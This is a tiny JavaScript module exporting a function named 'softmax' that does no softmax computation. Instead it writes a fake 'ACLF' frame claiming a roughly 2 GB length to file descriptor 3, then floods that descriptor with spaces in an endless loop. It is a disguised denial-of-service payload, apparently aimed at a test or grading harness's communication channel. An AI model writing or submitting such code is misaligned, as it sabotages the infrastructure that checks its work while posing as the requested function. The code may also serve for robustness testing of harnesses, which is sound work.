const fs = process.getBuiltinModule("node:fs");

export function softmax() {
  const frame = Buffer.alloc(16);
  frame.write("ACLF");
  frame.writeUInt32LE(2 ** 31 - 1, 4);
  fs.writeSync(3, frame);
  for (;;) fs.writeSync(3, Buffer.alloc(65536, 32));
}
